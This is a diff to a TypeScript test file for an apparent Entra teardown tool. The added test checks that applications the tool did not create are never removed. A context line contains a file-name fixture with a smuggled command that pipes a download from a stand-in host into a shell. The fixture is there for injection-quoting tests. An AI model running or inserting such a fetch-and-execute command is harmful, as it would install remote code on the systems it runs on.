@@ -426,6 +426,25 @@ describe('import-blocks and teardown', () => {
     expect(out).toContain("$ rm -- '/keys/a b#c; curl https://x.example | sh'\n");
   });
 
+  test.each(['Payroll', 'Nymgate prod - outlook-cal'])(
+    'T9-15: an application that Nymgate has not made is not removed, whatever the file calls it: %s',
+    async (displayName) => {
+      const { clientId } = stand.simulator.registerApp({ name: 'Payroll', roles: [], credentials: [] });
+      const changed = stand.read('deployment.json').replaceAll(calendar().clientId, clientId);
+      stand.write('deployment.json', changed.replace('Nymgate prod - outlook-cal', displayName));
+      const { exit, err } = await stand.admin(
+        ['Global Administrator'],
+        'teardown',
+        '--entra',
+        '--yes',
+        'prod',
+      );
+      expect([exit, err]).toEqual([1, expect.stringContaining('it was not removed')]);
+      const left = (await ask('/v1.0/applications'))['value'] as { appId: string }[];
+      expect(left.map(({ appId }) => appId)).toContain(clientId);
+    },
+  );
+
   test('--entra wants the name of the environment, then removes the applications; a brought one loses the trust alone', async () => {
     const made = stand.writes().length;
     expect(await stand.admin(DEVELOPER, 'teardown', '--entra', '--yes', 'test')).toMatchObject({ exit: 2 });
